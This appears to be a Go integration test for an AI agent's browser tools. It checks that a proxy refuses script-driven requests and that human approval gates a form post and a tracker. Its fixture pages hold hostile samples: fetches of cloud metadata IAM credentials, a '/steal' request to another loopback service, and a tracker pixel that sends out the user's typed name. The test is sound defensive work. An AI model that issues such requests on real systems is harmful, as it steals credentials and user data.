package apptest

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/reverie-ai/reverie/api"
	"github.com/reverie-ai/reverie/internal/toolloop"
	"github.com/reverie-ai/reverie/llm"
	"github.com/reverie-ai/reverie/llm/llmtest"
)

// needChromium skips without Chromium, except in CI (CI=true), which
// installs it.
func needChromium(t *testing.T) {
	t.Helper()
	for _, n := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if _, err := exec.LookPath(n); err == nil {
			return
		}
	}
	if os.Getenv("CI") == "true" {
		t.Fatal("CI must run the browser tool tests: no Chromium in PATH")
	}
	t.Skip("no Chromium: install it (apt-get install chromium) to run the browser tool tests; CI does")
}

// hitLog records the requests a listener gets.
type hitLog struct {
	mu   sync.Mutex
	hits []string
}

func (h *hitLog) add(r *http.Request) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.hits = append(h.hits, r.Method+" "+r.URL.RequestURI())
}

func (h *hitLog) all() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.hits...)
}

// quizPage renders its question and form only when its script runs; the
// answer page shows the answer only after its script runs too. Both try
// to reach what the guard refuses (the metadata address, another
// loopback port) and a tracker on a host the guard allows.
const quizPage = `<html><head><title>Quiz</title></head><body><div id="app">Loading…</div>
<iframe src="http://169.254.169.254/latest/meta-data/"></iframe>
<iframe src="OTHER/frame"></iframe>
<script>
fetch("OTHER/steal?from=script").catch(() => {});
fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/").catch(() => {});
document.getElementById("app").innerHTML =
  '<h1>Question of the day</h1><form method="post" action="/answer">' +
  '<label for="who">Your name</label><input id="who" name="who"><button>Show the answer</button></form>';
</script></body></html>`

const answerPage = `<html><body><h1>Result</h1><p id="out"></p><img src="TRACKER/pixel.png?who=NAME">
<script>document.getElementById("out").textContent = "The answer for " + NAMEJS + " is " + (6 * 7) + ".";</script>
</body></html>`

// The whole app: the scripted model opens a local page whose question
// appears only after its script runs, fills its form and reads the result
// (also script-rendered). The pages' requests to the metadata address and
// to another loopback port are refused inside the proxy (nothing reaches
// that port's listener); the form post after untrusted content asks for
// approval (approved), and the result page's tracker on another host asks
// too (denied: nothing reaches it). A screenshot then reaches the model
// (with vision) as an image after its result.
func TestBrowserToolsWholeApp(t *testing.T) {
	needChromium(t)
	var other, tracker, site hitLog
	otherSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		other.add(r)
		fmt.Fprint(w, "secret internal service")
	}))
	t.Cleanup(otherSrv.Close)
	trackerSrv := listenOn(t, "127.0.0.2:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tracker.add(r)
		w.WriteHeader(http.StatusNoContent)
	}))
	siteSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		site.add(r)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.URL.Path {
		case "/quiz":
			fmt.Fprint(w, strings.ReplaceAll(quizPage, "OTHER", otherSrv.URL))
		case "/answer":
			name := r.PostFormValue("who")
			js, _ := json.Marshal(name)
			page := strings.NewReplacer("TRACKER", trackerSrv.URL, "NAMEJS", string(js), "NAME", name).Replace(answerPage)
			fmt.Fprint(w, page)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(siteSrv.Close)
	hostPort := func(u string) string { return strings.TrimPrefix(u, "http://") }
	w := StartWeb(t, WithEnv(fmt.Sprintf("REVERIE_TOOLS__FETCH__ALLOW_HOSTS=[%s, %s]", hostPort(siteSrv.URL), hostPort(trackerSrv.URL)),
		"REVERIE_MODEL_VISION=true"))

	fieldRE := regexp.MustCompile(`\[field (e\d+) text label="Your name"`)
	var seen sync.Map // call id → the unfenced tool result the model read
	w.Model.Handle(func(req llmtest.ChatRequest) llmtest.ServerReply {
		last := req.Messages[len(req.Messages)-1]
		call := func(id, name, args string) llmtest.ServerReply {
			return llmtest.ServerReply{ToolCalls: []llm.ToolCall{{ID: id, Name: name, Arguments: json.RawMessage(args)}}}
		}
		// The page as the model reads it: the content of the fenced JSON.
		var page struct {
			Content string   `json:"content"`
			Refused []string `json:"refused"`
		}
		if last.Role == "tool" {
			text, _ := toolloop.Unfence(last.Text())
			_ = json.Unmarshal([]byte(text), &page)
			seen.Store(last.ToolCallID, text)
		}
		switch {
		case last.Role == "tool" && last.ToolCallID == "call_open":
			text := page.Content
			m := fieldRE.FindStringSubmatch(text)
			if m == nil {
				return llmtest.ServerReply{Text: "no form found in: " + text}
			}
			return call("call_type", "browser_type", fmt.Sprintf(`{"ref":%q,"text":"Ada","submit":true}`, m[1]))
		case last.Role == "tool" && last.ToolCallID == "call_type":
			return call("call_shot", "browser_screenshot", `{}`)
		case last.Role == "user" && len(req.Messages) > 1 && req.Messages[len(req.Messages)-2].ToolCallID == "call_shot":
			// The screenshot follows its result, as an image (vision).
			typed, _ := seen.Load("call_type")
			var p struct {
				Content string `json:"content"`
			}
			_ = json.Unmarshal([]byte(fmt.Sprint(typed)), &p)
			if i := strings.Index(p.Content, "The answer for"); i >= 0 && len(last.Images()) == 1 {
				return llmtest.ServerReply{Text: "The page says: " + strings.SplitN(p.Content[i:], "\n", 2)[0]}
			}
			return llmtest.ServerReply{Text: fmt.Sprintf("no answer in %q or no screenshot (%d images)", p.Content, len(last.Images()))}
		case strings.Contains(lastUser(req), "quiz"):
			return call("call_open", "browser_open", fmt.Sprintf(`{"url":%q}`, siteSrv.URL+"/quiz"))
		}
		return llmtest.ServerReply{Text: "ok"}
	})

	c := dialWS(t, w, "?thread=web:quiz")
	writeFrame(t, c, api.ClientFrame{Type: api.FrameMessage, Thread: "web:quiz", Text: "What is the answer of the quiz at " + siteSrv.URL + "/quiz ? Use the name Ada."})

	// The form post carries typed text to the page's host after the page
	// (untrusted) was read: asked, and approved.
	post := approvalFrameOf(t, c, "pending")
	if post.Name != "browser_type" || !strings.Contains(post.Text, "POST "+siteSrv.URL+"/answer") || !strings.Contains(post.Text, "who=Ada") {
		t.Fatalf("approval of the form post = %+v", post)
	}
	yes, no := true, false
	writeFrame(t, c, api.ClientFrame{Type: api.FrameApproval, Approval: post.Approval, Approve: &yes})
	approvalFrameOf(t, c, "approved")
	// The result page's tracker on another host: asked, and denied.
	track := approvalFrameOf(t, c, "pending")
	if track.Name != "browser_type" || !strings.Contains(track.Text, trackerSrv.URL+"/pixel.png?who=Ada") {
		t.Fatalf("approval of the tracker = %+v", track)
	}
	writeFrame(t, c, api.ClientFrame{Type: api.FrameApproval, Approval: track.Approval, Approve: &no})
	reply := readReply(t, c)
	done := reply[len(reply)-1]
	if done.Type != api.FrameDone || !strings.Contains(done.Text, "The answer for Ada is 42.") {
		t.Fatalf("reply = %+v", done)
	}

	if got := other.all(); len(got) != 0 {
		t.Errorf("the other loopback port was reached: %v", got)
	}
	if got := tracker.all(); len(got) != 0 {
		t.Errorf("the denied tracker was reached: %v", got)
	}
	// Chromium's own favicon request is answered by the proxy: it never
	// reaches the site, and was never asked about (it once came during
	// browser_type, after the quiz page had tainted the conversation, and
	// took the place of the form post's approval).
	if pages := site.all(); len(pages) != 2 || pages[0] != "GET /quiz" || pages[1] != "POST /answer" {
		t.Errorf("the site got %v; want the quiz and the approved post", pages)
	}
	opened, _ := seen.Load("call_open")
	for _, want := range []string{"169.254.169.254", otherSrv.URL + "/frame", otherSrv.URL + "/steal?from=script"} {
		if !strings.Contains(fmt.Sprint(opened), want) {
			t.Errorf("the refusal of %s is not in the result the model read:\n%s", want, opened)
		}
	}
	typed, _ := seen.Load("call_type")
	if !strings.Contains(fmt.Sprint(typed), "denied") {
		t.Errorf("the denied tracker is not reported to the model:\n%s", typed)
	}
}
